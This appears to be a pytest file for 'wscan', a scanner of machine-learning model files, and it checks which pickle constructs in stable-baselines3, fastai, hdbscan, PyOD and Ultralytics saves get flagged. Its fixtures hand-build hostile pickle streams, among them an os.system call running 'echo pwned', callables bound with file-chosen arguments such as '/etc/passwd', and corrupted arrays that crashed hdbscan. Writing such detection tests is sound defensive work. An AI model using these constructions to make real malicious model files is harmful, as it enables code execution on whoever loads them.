    assert rule in {f.rule_id for f in scan(path).findings if f.severity >= Severity.HIGH}


@pytest.mark.parametrize(("env", "rule"), [("this:CartPole-v1", "WS-REPO-035"), ("CartPole-v1", "WS-REPO-034")])
def test_a_stable_baselines3_env_id_in_data_is_what_the_loader_makes(tmp_path: Path, env: str, rule: str) -> None:
    """Review 75: given no env, `A2C.load` passes data's `env` to gym.make, which imports the module before a colon
    (a `.py` beside the model, the standard library's `this`): critical; any other env there is high."""
    path = _with_data(SB3 / "a2c.zip", tmp_path / "model.zip", env=env)
    found = {f.rule_id: f.severity for f in scan(path).findings if f.severity >= Severity.HIGH}
    assert found == {rule: Severity.CRITICAL if ":" in env else Severity.HIGH}


@pytest.mark.parametrize("padding", [0, 200_000])
def test_a_pickle_in_a_stable_baselines3_zip_is_scanned(tmp_path: Path, padding: int) -> None:
    """Review 68: `PPO.load()` (any algorithm's) base64-decodes and cloudpickle-loads every `:serialized:` value of
    the zip's `data` JSON; an os.system pickle there passed. Found by the member's name too, past the first 64 KiB."""
    payload = b"\x80\x02" + _g("os", "system") + _tuple(_s("echo pwned")) + b"R."
    hostile = _with_serialized(SB3 / "a2c.zip", tmp_path / "model.zip", "learning_rate", payload, padding)
    found = scan(hostile).findings
    assert "WS-PKL-001" in {f.rule_id for f in found if f.severity >= Severity.CRITICAL}
    assert any("data" in f.location.describe() and "learning_rate" in f.location.describe() for f in found)


@pytest.mark.parametrize("shape", ["leading-whitespace", "too-deep"])
def test_a_stable_baselines3_data_wscan_cannot_parse_is_still_scanned(tmp_path: Path, shape: str) -> None:
    """Review 69: the loader's json skips any leading whitespace (70 KiB put the object past the head) and, from a
    shallower stack, reads nesting that exhausts wscan's parser: the values are found in the text all the same."""
    payload = base64.b64encode(b"\x80\x02" + _g("os", "system") + _tuple(_s("echo pwned")) + b"R.").decode()
    value = f'{{":type:": "x", ":serialized:": "{payload}"}}'
    if shape == "leading-whitespace":
        text = " " * 70_000 + f'{{"learning_rate": {value}}}'
    else:
        text = f'{{"deep": {"[" * 5000}{"]" * 5000}, "learning_rate": {value}}}'
    target = tmp_path / "model.zip"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("data", text)
    found = scan(target).findings
    assert "WS-PKL-001" in {f.rule_id for f in found if f.severity >= Severity.CRITICAL}


def test_a_learning_rate_saved_as_a_lambda_is_code() -> None:
    """cloudpickle saves a lambda by value (its code object), which stable-baselines3's loader rebuilds."""
    found = scan(SB3 / "td3_lambda_data.zip").findings
    assert "WS-PKL-001" in {f.rule_id for f in found if f.severity >= Severity.CRITICAL}


def test_a_bunch_given_itself_as_state_is_judged_by_its_items(tmp_path: Path) -> None:
    """statsmodels' Bunch (in ARIMA results) pickles with itself as its state: BUILD copies its items into its
    attributes, as from a dict state. It was WS-PKL-023 (slot state) and, with a formula check, WS-PKL-051."""
    found = scan_bytes(tmp_path, b"\x80\x02" + _bunch_with(_s("nobs"), b"K\x01") + b".", "results.pickle").findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def _bunch_with(key: bytes, value: bytes) -> bytes:
    """statsmodels' Bunch as pickle writes it: NEWOBJ, its items, then BUILD with itself as the state."""
    return _g("statsmodels.tools.tools", "Bunch") + b")\x81p0\n(" + key + value + b"ug0\nb"


def _random(state: bytes = b"") -> bytes:
    """random.Random() as river's models pickle it, then BUILD with `state` (none: no BUILD)."""
    return _g("random", "Random") + b")R" + (state + b"b" if state else b"")


_RNG_STATE = _tuple(b"K\x03", _tuple(b"K\x01", b"K\x02", b"K\x03"), b"N")  # (version, internal state, gauss_next)


def _bound(target: bytes, name: str) -> bytes:
    return _g("builtins", "getattr") + _tuple(target, _s(name)) + b"R"


def _partial(func: bytes) -> bytes:
    return _g("functools", "partial") + _tuple(func, b"K\x00", b"K\x01") + b"R"


@pytest.mark.parametrize(
    ("body", "critical"),
    [
        # river's KMeans: a partial of the bound method of an RNG restored with its numbers, kept as a value
        (_partial(_bound(_random(_RNG_STATE), "gauss")), False),
        (_partial(_bound(_random(), "gauss")), False),
        # the state may hold a callable under the method's name: what getattr returns is unknown
        (_partial(_bound(_random(_dict((_s("gauss"), _g("collections", "OrderedDict")))), "gauss")), True),
        # made from an object, not constants: a class's __new__ (or a function) may return anything
        (_partial(_bound(_g("random", "Random") + _tuple(_g("collections", "OrderedDict") + b")R") + b"R", "gauss")),
         True),
        # a method of the RNG no real file binds
        (_partial(_bound(_random(_RNG_STATE), "seed")), True),
        # the partial called while the file loads
        (_partial(_bound(_random(_RNG_STATE), "gauss")) + b")R", True),
        # ... or handed to a helper that calls it (numpy's __generator_ctor; review 67)
        (_g("numpy.random._pickle", "__generator_ctor") + _tuple(_s("PCG64"), _partial(_bound(_random(), "gauss")))
         + b"R", True),
        # looked up on the class: the function takes the file's first argument (review 67)
        (_partial(_bound(_g("random", "Random"), "gauss")), True),
        # river's KMeans: the partial as a defaultdict's factory
        (_g("collections", "defaultdict") + _tuple(_partial(_bound(_random(_RNG_STATE), "gauss"))) + b"R", False),
    ],
    ids=["numbers-state", "no-state", "dict-state", "made-from-object", "other-method", "called", "helper-calls",
         "class-lookup", "defaultdict-factory"],
)
def test_a_bound_method_of_a_restored_rng_is_judged_by_its_name(tmp_path: Path, body: bytes, critical: bool) -> None:
    """Review 61: river's KMeans binds rng.gauss in a partial; a method looked up on an instance is the class's only
    when nothing the stream gave the instance can hold a callable (review 58 handed a payload dict on so)."""
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "model.pkl").findings
    worst = max((f.severity for f in found), default=Severity.INFO)
    assert (worst >= Severity.CRITICAL) is critical, [f"{f.rule_id}: {f.message}" for f in found]
    if not critical:
        assert worst < Severity.HIGH, [f"{f.rule_id}: {f.message}" for f in found]


def _builtin_type(name: bytes, module: str = "cloudpickle.cloudpickle") -> bytes:
    """cloudpickle's _builtin_type(name), which is getattr(types, name)."""
    return _g(module, "_builtin_type") + _tuple(name) + b"R"


def _method(function: bytes, target: bytes) -> bytes:
    """A bound method as cloudpickle writes one: _builtin_type('MethodType')(function, target)."""
    return _builtin_type(_s("MethodType")) + _tuple(function, target) + b"R"


_GAUSS = _bound(_g("random", "Random"), "gauss")  # the function, looked up on the class


@pytest.mark.parametrize(
    ("body", "critical"),
    [
        # fastai's exports (cloudpickle): a method bound to an object the stream restored, kept as a value
        (_dict((_s("f"), _method(_GAUSS, _random(_RNG_STATE)))), False),
        # ... through joblib's copy of cloudpickle
        (_dict((_s("f"), _builtin_type(_s("MethodType"), "joblib.externals.cloudpickle.cloudpickle")
                + _tuple(_GAUSS, _random()) + b"R")), False),
        # a method no real file binds
        (_dict((_s("f"), _method(_bound(_g("random", "Random"), "seed"), _random()))), True),
        # bound to a constant: the file chooses the function's first argument
        (_dict((_s("f"), _method(_GAUSS, _s("/etc/passwd")))), True),
        # bound, then called while the file loads
        (_method(_GAUSS, _random()) + b")R", True),
        # the same function also looked up on the class and handed to a partial (the file's first argument)
        (_dict((_s("f"), _method(_GAUSS, _random())), (_s("g"), _partial(_GAUSS))), True),
        # ... or the one lookup bound and handed to the partial too (the memo gives it twice)
        (_GAUSS + b"p9\n" + _dict((_s("f"), _method(b"g9\n", _random())), (_s("g"), _partial(b"g9\n"))), True),
        # any other class of the types module: code and functions written by value
        (_builtin_type(_s("CodeType")), True),
        (_builtin_type(_s("sys")), True),
        (_builtin_type(_s("ClassType")) + _tuple(_s("X"), _tuple(), _dict()) + b"R", True),
        # the helper itself kept as a value, or given a name the stream computes
        (_dict((_s("f"), _g("cloudpickle.cloudpickle", "_builtin_type"))), True),
        (_builtin_type(_g("builtins", "str") + _tuple(_s("MethodType")) + b"R"), True),
        # a function bound to a restored object is judged as itself
        (_dict((_s("f"), _method(_g("os", "system"), _random()))), True),
        # review 70: the function MethodType binds is called by whoever calls the bound method, print too ...
        (_dict((_s("logger"), _method(_g("builtins", "print"), _s("owned")))), True),
        (_dict((_s("logger"), _method(_g("builtins", "print"), _random()))), True),
        # ... and one the stream binds and also keeps unbound (the memo gives it twice) is no bound method
        (_GAUSS + b"p9\n" + _dict((_s("f"), _method(b"g9\n", _random())), (_s("g"), b"g9\n")), True),
        # review 71: the same made with copyreg's __newobj__ and __newobj_ex__, or the NEWOBJ_EX opcode
        (_dict((_s("logger"), _g("copyreg", "__newobj__") + _tuple(_builtin_type(_s("MethodType")),
                                                                  _g("builtins", "print"), _s("owned")) + b"R")), True),
        (_dict((_s("logger"), _g("copyreg", "__newobj_ex__") + _tuple(
            _builtin_type(_s("MethodType")), _tuple(_g("builtins", "print"), _s("owned")), _dict()) + b"R")), True),
        (_dict((_s("logger"), _builtin_type(_s("MethodType")) + _tuple(_g("builtins", "print"), _s("owned")) + _dict()
                + b"\x92")), True),
        # print kept as a logger (fastai's Learner, skorch's PrintLog), never called while the file loads; called, it is
        (_dict((_s("logger"), _g("builtins", "print"))), False),
        (_g("builtins", "print") + _tuple(_s("owned")) + b"R", True),
        (_g("collections", "defaultdict") + _tuple(_g("builtins", "print")) + b"R", True),
    ],
    ids=["bound", "joblib-copy", "other-method", "bound-to-constant", "called", "also-unbound", "memo-twice",
         "code-type", "module", "class-type", "helper-kept", "computed-name", "dangerous-function", "print-bound-text",
         "print-bound-object", "bound-and-kept", "newobj", "newobj-ex", "newobj-ex-opcode", "print-kept",
         "print-called", "print-factory"],
)
def test_cloudpickle_bound_methods_are_judged_as_bound_methods(tmp_path: Path, body: bytes, critical: bool) -> None:
    """Review 68: every fastai export (cloudpickle) was critical for `_builtin_type('MethodType')(getattr(Class,
    'name'), obj)`, cloudpickle's spelling of the bound method plain pickle writes as getattr(obj, 'name'), and for
    the `print` its Learner keeps as a logger. Both are now judged as what they are, and nothing else of the two."""
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "model.pkl").findings
    worst = max((f.severity for f in found), default=Severity.INFO)
    assert (worst >= Severity.CRITICAL) is critical, [f"{f.rule_id}: {f.message}" for f in found]
    if not critical:
        assert worst < Severity.HIGH, [f"{f.rule_id}: {f.message}" for f in found]


def test_cloudpickle_writes_a_bound_method_as_the_machine_reads_it(tmp_path: Path) -> None:
    """The shape above is cloudpickle's own (the test extra installs it): a bound method of an allowed instance
    method passes, one of a method off the list is critical."""
    import random

    import cloudpickle

    for protocol in (2, 5):  # the function looked up with getattr, or imported by its qualified name
        kept = cloudpickle.dumps({"f": random.Random(0).gauss}, protocol=protocol)
        assert b"_builtin_type" in kept
        found = scan_bytes(tmp_path / f"gauss{protocol}", kept, "model.pkl").findings
        assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]
        other = cloudpickle.dumps({"f": random.Random(0).seed}, protocol=protocol)
        found = scan_bytes(tmp_path / f"seed{protocol}", other, "model.pkl").findings
        assert {"WS-PKL-017", "WS-PKL-003"} & {f.rule_id for f in found if f.severity >= Severity.HIGH}


def test_every_lookup_helper_the_machine_knows_is_judged_as_one() -> None:
    """The machine reads cloudpickle's _builtin_type wherever it lives; WS-PKL-001 passes each only as a lookup."""
    from wscan.rules import RuleSet
    from wscan.scanners.pickle_vm import TYPE_LOOKUPS

    lists = RuleSet.load(Config()).lists
    assert TYPE_LOOKUPS | {"builtins.getattr"} == set(lists["lookup-helpers"])


SCIENCE = Path(__file__).parent / "data" / "science"
REGEX_PICKLES = {"nltk_regexp_tagger.pkl"}  # they hold a pattern of the regex package: see below
SCIENCE_FILES = sorted(path for path in SCIENCE.glob("*.pkl") if path.name not in REGEX_PICKLES)


@pytest.mark.parametrize("path", SCIENCE_FILES, ids=lambda path: path.name)
def test_real_hmmlearn_survival_tslearn_pgmpy_and_nltk_models_pass(path: Path) -> None:
    """Review 68: every hmmlearn, scikit-survival, tslearn (plain pickle), pgmpy and NLTK model was high, no allowlist
    holding their classes. The files are the libraries' own (tests/data/science/README.md); their classes are in
    rules/allow-science.yaml, each hook reviewed in tools/gen_science_allowlist.py."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_a_regex_pattern_stays_high_as_its_compile_takes_the_engine_code_from_the_file() -> None:
    """NLTK's RegexpTagger keeps its patterns compiled by the regex package, which pickles one as
    `regex._regex.compile(pattern, flags, code, ...)`: the C engine is handed the compiled code the file holds,
    not the pattern's text to compile (unlike `re._compile`). Only that import is flagged in a real tagger."""
    found = scan(SCIENCE / "nltk_regexp_tagger.pkl").findings
    flagged = [(f.rule_id, f.message.split(",")[0]) for f in found if f.severity >= Severity.HIGH]
    assert flagged == [("WS-PKL-003", "Loading imports regex._regex.compile")]


def test_numba_serialized_objects_are_critical_even_where_their_names_are_allowed(tmp_path: Path) -> None:
    """numba pickles a jitted function (shap's explainers, umap and pynndescent keep some) as
    `custom_rebuild(_unpickle__CustomPickled(<bytes>))`: the bytes are another pickle, which cloudpickle.loads runs
    (a real one rebuilds the function from its bytecode), and custom_rebuild calls `_rebuild(**states)` on the class
    it returns. Review 74's sweep allowed both names, as WS-PKL-003's help suggests, and a shap explainer passed with
    no finding: the module is now dangerous, so the files stay critical whatever a user allows."""
    inner = pickle.dumps(("payload", {}), protocol=2)
    body = (_g("numba.core.serialize", "custom_rebuild") + b"(" + _g("numba.core.serialize", "_unpickle__CustomPickled")
            + b"(C" + bytes([len(inner)]) + inner + b"tRtR")
    names = {"numba.core.serialize.custom_rebuild", "numba.core.serialize._unpickle__CustomPickled"}
    for config in (None, Config(allow=frozenset(names))):
        found = scan_bytes(tmp_path, b"\x80\x03" + body + b".", "explainer.pkl", config).findings
        critical = {f.message.split(" (")[0] for f in found if f.severity >= Severity.CRITICAL}
        assert critical == {f"Loading imports {name}" for name in names}, [f.message for f in found]
    # review 75: the same function under a module that imports the serializer (rules/library-aliases.yaml)
    alias = "numba.core.dispatcher.serialize._numba_unpickle"
    body = _g("numba.core.dispatcher", "serialize._numba_unpickle") + _tuple(b"K\x00", b"C\x01.", b"C\x00") + b"R"
    for config in (None, Config(allow=frozenset({alias}))):
        found = scan_bytes(tmp_path, b"\x80\x04" + body + b".", "alias.pkl", config).findings  # dotted names: 4
        assert "WS-PKL-001" in {f.rule_id for f in found if f.severity >= Severity.CRITICAL}


def _slotted(module: str, name: str, *pairs: tuple[bytes, bytes]) -> bytes:
    """An object of the class restored as pickle restores a slotted one: (None, slots) state, set with setattr."""
    made = _g("copyreg", "_reconstructor") + _tuple(_g(module, name), _g("builtins", "object"), b"N") + b"R"
    return made + _tuple(b"N", _dict(*pairs)) + b"b"


TIMED = ("nltk.redos", "TimedPattern")
FILLER = tuple((_s(f"_x{i}"), b"K\x01") for i in range(9))


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        (_slotted(*TIMED, (_s("_rx"), _s("a+")), (_s("_timeout"), b"K\x01")), None),
        # setattr of __class__ on a slotted object gives it another class of its layout; no writer's slot state
        # holds a dunder name, even past the names an observation quotes, nor a computed name
        (_slotted(*TIMED, (_s("__class__"), _g("nltk.tokenize.punkt", "PunktLanguageVars"))), "WS-PKL-023"),
        (_slotted(*TIMED, *FILLER, (_s("__class__"), _g("nltk.tokenize.punkt", "PunktLanguageVars"))), "WS-PKL-023"),
        (_slotted(*TIMED, (_g("builtins", "str") + _tuple(_s("_rx")) + b"R", _s("a+"))), "WS-PKL-023"),
        # a slotted class of another pack (SciPy's) whose base keeps a dict: its __dict__ replaced whole
        (_slotted("scipy.interpolate._cubic", "CubicSpline", (_s("__dict__"), _dict())), "WS-PKL-023"),
        # FreqDist is a Counter, which pickle calls with its counts; punkt's tokenizer real files only restore
        (_g("nltk.probability", "FreqDist") + _tuple(_dict((_s("a"), b"K\x02"))) + b"R", None),
        (_g("nltk.tokenize.punkt", "PunktSentenceTokenizer") + _tuple(_s("train on this")) + b"R", "WS-PKL-014"),
    ],
    ids=["timed-pattern", "class", "class-ninth", "computed-name", "scipy-dict", "freqdist", "punkt-called"],
)
def test_nltk_classes_stay_judged_outside_what_real_saves_do(tmp_path: Path, body: bytes, rule: str | None) -> None:
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "model.pkl").findings
    flagged = {f.rule_id for f in found if f.severity >= Severity.HIGH}
    assert flagged == ({rule} if rule else set()), [f"{f.rule_id}: {f.message}" for f in found]


def test_a_science_model_called_with_arguments_is_high(tmp_path: Path) -> None:
    """Real files restore these models from state; called with arguments the file chose, one is WS-PKL-014."""
    body = _g("pgmpy.models.DiscreteBayesianNetwork", "DiscreteBayesianNetwork") + _tuple(_s("edges")) + b"R"
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "network.pkl").findings
    assert "WS-PKL-014" in {f.rule_id for f in found if f.severity >= Severity.HIGH}


FASTAI = Path(__file__).parent / "data" / "fastai"
FASTAI_FILES = sorted(path for path in FASTAI.rglob("*") if path.suffix in (".pkl", ".pth"))


@pytest.mark.parametrize("path", FASTAI_FILES, ids=lambda path: path.name)
def test_real_fastai_saves_pass(path: Path) -> None:
    """Review 68: every fastai export was critical (`print` kept as the logger, cloudpickle's bound methods) and high
    (no allowlist held fastai's classes). The files are fastai's own (tests/data/fastai/README.md); their classes are
    in rules/allow-fastai.yaml, each hook reviewed in tools/gen_fastai_allowlist.py."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # Stateful.__setstate__ calls self._init_state() after updating the dict: a state naming one replaces it
        (_g("fastai.learner", "Recorder") + b")\x81" + _dict((_s("_init_state"), _g("fastai.metrics", "accuracy")))
         + b"b", "WS-PKL-026"),
        # a fastai class called with arguments the file chose: real exports restore every one from state
        (_g("fastai.tabular.core", "TabularPandas") + _tuple(_s("data.csv")) + b"R", "WS-PKL-014"),
        # a bound method off the list
        (_dict((_s("f"), _method(_bound(_g("fastai.learner", "Learner"), "export"),
                                 _g("fastai.learner", "Learner") + b")\x81"))), "WS-PKL-017"),
        # review 70: a class real files only restore, bound to an object, runs its constructor when called
        (_dict((_s("cb"), _method(_g("torch.optim.lr_scheduler", "LambdaLR"), _random()))), "WS-PKL-014"),
        # ... and a callable set in a partial's own dict (its BUILD state's fourth item) replaces a method
        (_g("functools", "partial") + _tuple(_g("builtins", "str")) + b"R"
         + _tuple(_g("builtins", "str"), _tuple(), _dict(),
                  _dict((_s("cpu"), _g("functools", "partial") + _tuple(_g("builtins", "str")) + b"R"))) + b"b",
         "WS-PKL-026"),
        # review 72: print as a metric's function, whose keyword arguments (the file's text) the state holds
        (_g("fastai.metrics", "AccumMetric") + b")\x81" + _dict((_s("func"), _g("builtins", "print")),
                                                             (_s("kwargs"), _dict((_s("end"), _s("owned"))))) + b"b",
         "WS-PKL-052"),
        # ... and tslearn's to_pickle dict, whose model_params from_pickle sets on the model with setattr
        (_dict((_s("hyper_params"), _dict()), (_s("model_params"), _dict((_s("predict"), _g("builtins", "print"))))),
         "WS-PKL-026"),
        (_dict((_s("hyper_params"), _dict()), (_s("model_params"), _dict((_s("labels"), _g("builtins", "print"))))),
         "WS-PKL-052"),
    ],
    ids=["init-state", "called", "other-method", "bound-class", "partial-dict", "print-as-metric",
         "tslearn-method", "tslearn-print"],
)
def test_fastai_classes_stay_judged_outside_what_real_saves_do(tmp_path: Path, body: bytes, rule: str) -> None:
    _assert_flagged(tmp_path, b"\x80\x02" + body + b".", "export.pkl", rule)


OUTLIERS = Path(__file__).parent / "data" / "outliers"


@pytest.mark.parametrize("path", sorted(OUTLIERS.glob("pyod_*.pkl")), ids=lambda path: path.name)
def test_real_pyod_detectors_pass(path: Path) -> None:
    """Review 77: every PyOD detector was high (WS-PKL-003: no allowlist held its classes). The files are its own
    (tests/data/outliers/README.md); the classes are in rules/allow-outliers.yaml, screened by
    tools/gen_outlier_allowlist.py."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


HDBSCAN_PASSING = ["hdbscan_default.pkl", "hdbscan_manhattan.pkl", "hdbscan_minkowski.pkl", "hdbscan_chebyshev.pkl",
                   "hdbscan_robust_single_linkage.pkl", "hostile/original.joblib", "hostile/original-rsl.joblib",
                   "hdbscan_prediction.pkl", "hostile/original-spanning-tree.joblib"]


@pytest.mark.parametrize("name", HDBSCAN_PASSING)
def test_real_hdbscan_clusterers_pass(name: str) -> None:
    """hdbscan's clusterers were high (WS-PKL-003) since review 82 took them off the allowlist: their compiled tree
    code trusts the arrays a model keeps. Those arrays are checked now (`pickle_native_hdbscan`), and the files
    hdbscan wrote (tests/data/outliers/README.md) pass, prediction data and the default Memory(None) included."""
    found = scan(OUTLIERS / name).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


@pytest.mark.parametrize("name", ["hdbscan_branches.pkl", "hdbscan_branch_detector.pkl"])
def test_hdbscan_branch_detection_data_stays_high(name: str) -> None:
    """helper 209: detect_branches_in_clusters runs a compiled linkage on each cluster's graph and wrote out of bounds
    when the graph did not connect the cluster. Branch detection data kept in the file (its neighbour tree, neighbours
    and core distances) is not checked, so it is unverified, and branch detection's own classes stay off the
    allowlist."""
    found = scan(OUTLIERS / name).findings
    assert {f.rule_id for f in found if f.severity >= Severity.HIGH} == {"WS-PKL-003", "WS-PKL-059"}
    assert any("branch detection data" in f.message for f in found if f.rule_id == "WS-PKL-059")


SPANNING_TREES = OUTLIERS / "spanning-tree"


@pytest.mark.parametrize("path", sorted(SPANNING_TREES.glob("*.joblib")), ids=lambda path: path.name)
def test_real_hdbscan_spanning_trees_pass(path: Path) -> None:
    """A clusterer fitted with gen_min_span_tree=True was high (WS-PKL-059) until its tree was checked for what branch
    detection builds from it (`pickle_native_hdbscan_branches`). Real fits of every kind the README of that folder
    lists, each run through branch detection by hdbscan, pass; but for Minkowski distances, which wscan does not
    measure as scikit-learn does (that tree stays unverified), and the fits hdbscan's branch detection itself breaks.
    Helper 219 found the generic algorithm's fits flagged (a tree edge a rounding error longer than its weight, which
    another pair bridges) and fits at 1e10 passed that broke hdbscan (its neighbour tree compares squares)."""
    found = [f for f in scan(path).findings if f.severity >= Severity.HIGH]
    if path.stem == "minkowski":
        assert [f.rule_id for f in found] == ["WS-PKL-059"]
        assert "minkowski distances, which wscan does not measure" in found[0].message
    elif path.stem in SPANNING_TREES_HDBSCAN_BREAKS:
        assert [f.rule_id for f in found] == ["WS-PKL-059"]
        assert "longer than its heaviest weight, and no other pair as near across it" in found[0].message
    else:
        assert not [f"{f.rule_id}: {f.message}" for f in found]


# Real fits whose "full" graph hdbscan's own branch detection breaks (a worker aborted, a hang: the folder's README):
# a tree edge scikit-learn's rounding leaves out, no other pair across it (helper 219; wscan passed these at first).
SPANNING_TREES_HDBSCAN_BREAKS = {"generic-min-samples-1", "scale-1e10-min-samples-1", "grouped-chains"}


@pytest.mark.parametrize(
    ("name", "detail"),
    [
        ("condensed-child-far", "_condensed_tree's points: 99 ids"),
        ("condensed-child-negative", "_condensed_tree's points: -1099511627776 outside 0 to 99"),
        ("condensed-cycle", "_condensed_tree's clusters: 100 outside 101 to 104"),
        ("linkage-far", "_single_linkage_tree joining a node not made before it"),
        ("rsl-hierarchy-negative", "_cluster_hierarchy joining a node not made before it"),
        ("prediction-wider-than-exemplars", "neighbour tree made by sklearn.neighbors._kd_tree.KDTree, not over"),
        ("prediction-exemplars-narrow", "exemplar 0 of shape (5, 1) for points of 2 features"),
        ("prediction-cluster-tree-other", "prediction cluster tree that is not the condensed tree's clusters"),
        # helper 211: the flat functions' merge height climbs from these ids forever; a chain past the depth cap
        ("prediction-reverse-map-far", "reverse_cluster_map naming cluster 1000000000, not in the condensed tree"),
        ("condensed-chain-deep", "_condensed_tree 1100 clusters deep"),
        # helper 212: settings a refit takes (a heap overflow at fit, two hangs)
        ("setting-alpha-tiny", "alpha 1e-307, which makes a refit's distances infinite or NaN"),
        ("setting-alpha-nan", "alpha nan"),
        ("setting-minkowski-p-zero", "Minkowski power 0.0, below 1 or not finite"),
        # what branch detection builds a cluster's graph from: in pieces, it spun the compiled union-find forever
        ("spanning-tree-cluster-split", "_min_spanning_tree leaving cluster 0 in 35 pieces"),
        ("spanning-tree-weights-short", "_min_spanning_tree with an edge of cluster 0 longer than its heaviest weight"),
        ("spanning-tree-point-far", "a clustered point with a coordinate not finite or beyond 1e+100"),
        ("spanning-tree-id-far", "_min_spanning_tree joining a point outside 0 to 99"),
    ],
)
def test_hostile_hdbscan_clusterers_are_high(name: str, detail: str) -> None:
    """Real clusterers with one array changed (tools/record_hdbscan_variants.py): loaded and given the call that reads
    it, the first five crashed hdbscan (SIGSEGV), the prediction-data ones read past arrays or spun forever
    (tests/data/outliers/hostile/README.md); the chain is past the depth cap (120,000 levels overflowed the stack); two
    spanning-tree ones hung branch detection, the other two are not as fits write them.
    Each is WS-PKL-059, for the array changed."""
    found = [f for f in scan(OUTLIERS / "hostile" / f"{name}.joblib").findings if f.severity >= Severity.HIGH]
    assert [f.rule_id for f in found] == ["WS-PKL-059"], found
    assert detail in found[0].message


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # a detector real files only restore from state, called with arguments the file chose
        (_g("pyod.models.knn", "KNN") + _tuple(b"K\x05") + b"R", "WS-PKL-014"),
        # its scoring method replaced through its state
        (_g("pyod.models.knn", "KNN") + b")\x81" + _dict((_s("decision_function"), _partial(_g("builtins", "str"))))
         + b"b", "WS-PKL-026"),
        # print as the variational autoencoder's loss, which fit calls
        (_g("pyod.models.vae", "VAE") + b")\x81" + _dict((_s("criterion"), _g("builtins", "print"))) + b"b",
         "WS-PKL-052"),
        # HDBSCAN's memory: a folder (or a Memory with one) is where fit writes its cache; only Memory(None) passes
        (_g("hdbscan.hdbscan_", "HDBSCAN") + b")\x81" + _dict((_s("memory"), _s("/tmp/owned"))) + b"b", "WS-PKL-033"),
        (_g("hdbscan.hdbscan_", "HDBSCAN") + b")\x81" + _dict((_s("memory"), _g("joblib.memory", "Memory") + b")\x81"
         + _dict((_s("location"), _s("/tmp/owned")), (_s("store_backend"), b"N")) + b"b")) + b"b", "WS-PKL-033"),
    ],
    ids=["called", "method-replaced", "print-as-loss", "memory-folder", "memory-with-location"],
)
def test_pyod_and_hdbscan_classes_stay_judged_beyond_real_saves(tmp_path: Path, body: bytes, rule: str) -> None:
    _assert_flagged(tmp_path, b"\x80\x02" + body + b".", "detector.pkl", rule)


ULTRALYTICS = Path(__file__).parent / "data" / "ultralytics"


@pytest.mark.parametrize("path", sorted(ULTRALYTICS.glob("*.pt")), ids=lambda path: path.name)
def test_real_ultralytics_checkpoints_pass(path: Path) -> None:
    """Every YOLO checkpoint was high: no allowlist held Ultralytics' classes. The files are its own saves, fused and
    not, and a trainer's (tests/data/ultralytics/README.md); the classes are in rules/allow-ultralytics.yaml, each
    hook reviewed in tools/gen_ultralytics_allowlist.py."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def _module(module: str, name: str, *pairs: tuple[bytes, bytes]) -> bytes:
    """An object as torch.save pickles a module: NEWOBJ of its class, then its dict as BUILD's state."""
    return _g(module, name) + b")\x81" + (_dict(*pairs) + b"b" if pairs else b"")


_CONV = ("ultralytics.nn.modules.conv", "Conv")
_NAMESPACE = ("ultralytics.utils", "IterableSimpleNamespace")


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # a model class called with arguments the file chose (its constructor reads and builds from a YAML)
        (_g("ultralytics.nn.tasks", "DetectionModel") + _tuple(_s("yolov8n.yaml")) + b"R", "WS-PKL-014"),
        # a layer's forward replaced by another of its methods, or a method another class does not fuse
        (_module(*_CONV, (_s("forward"), _bound(_module(*_CONV), "fuse"))), "WS-PKL-017"),
        (_module("ultralytics.nn.modules.head", "Detect",
                 (_s("forward"), _bound(_module("ultralytics.nn.modules.head", "Detect"), "forward_fuse"))),
         "WS-PKL-026"),
        # the arguments' namespace: a method replaced through its state, or through the mapping Python 3.13 takes
        (_g(*_NAMESPACE) + b")R" + _dict((_s("get"), _partial(_g("builtins", "str")))) + b"b", "WS-PKL-026"),
        (_g(*_NAMESPACE) + _tuple(_dict((_s("get"), _partial(_g("builtins", "str"))))) + b"R", "WS-PKL-026"),
        (_g(*_NAMESPACE) + _tuple(_dict((_s("save_dir"), _g("builtins", "print")))) + b"R", "WS-PKL-052"),
        (_g("types", "SimpleNamespace") + _tuple(_dict((_s("get"), _partial(_g("builtins", "str"))))) + b"R",
         "WS-PKL-026"),
        # YOLO12's area attention multiplies two values of its state in __setstate__: left out of the allowlist
        (_module("ultralytics.nn.modules.block", "AAttn"), "WS-PKL-003"),
        # print as a classifier's preprocessing, which predict calls with the picture
        (_module("ultralytics.nn.tasks", "ClassificationModel", (_s("transforms"), _g("builtins", "print"))),
         "WS-PKL-052"),
    ],
    ids=["model-called", "forward-other-method", "forward-unfused-class", "namespace-state", "namespace-mapping",
         "namespace-mapping-print", "core-namespace-mapping", "area-attention", "transforms-print"],
)
def test_ultralytics_classes_stay_judged_outside_what_real_saves_do(tmp_path: Path, body: bytes, rule: str) -> None:
    _assert_flagged(tmp_path, b"\x80\x04" + body + b".", "yolo.pkl", rule)


def _list(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _row(layer: str, *arguments: bytes) -> bytes:
    """A row of an architecture: [from, repeats, layer, arguments], as model.yaml keeps it."""
    return _list(b"J" + (-1).to_bytes(4, "little", signed=True), b"K\x01", _s(layer), _list(*arguments))


def _numpy_str(text: str) -> bytes:
    """A numpy.str_ as pickle writes one (numpy's scalar rebuild of a U dtype and its bytes), without its memo writes
    (it reads none), so that it can sit anywhere in a hand-made stream."""
    import pickletools

    import numpy as np

    raw = pickle.dumps(np.str_(text), protocol=2)
    ops = list(pickletools.genops(raw))
    ends = [at for _, _, at in ops[1:]] + [len(raw)]
